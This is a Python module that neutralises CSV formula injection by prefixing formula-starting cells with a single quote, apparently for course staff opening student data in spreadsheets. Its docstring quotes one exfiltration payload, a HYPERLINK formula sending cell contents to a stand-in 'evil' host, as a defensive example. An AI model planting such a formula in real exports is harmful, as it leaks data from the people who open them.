"""Text bound for a CSV that staff open in a spreadsheet, made inert.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab or carriage
return can hide such a start), so a student's name, notebook path or error message like
`=HYPERLINK("http://evil/?"&A1, "click")` would run on a TA's machine. OWASP's advice: prefix such
a cell with a single quote, which spreadsheets show as text. Numbers are left alone: -1.5 in a
numeric column stays a number.
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> object:
    """`value` as a CSV cell that no spreadsheet runs: a string starting with a formula prefix
    gets a leading `'`; anything else (numbers, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
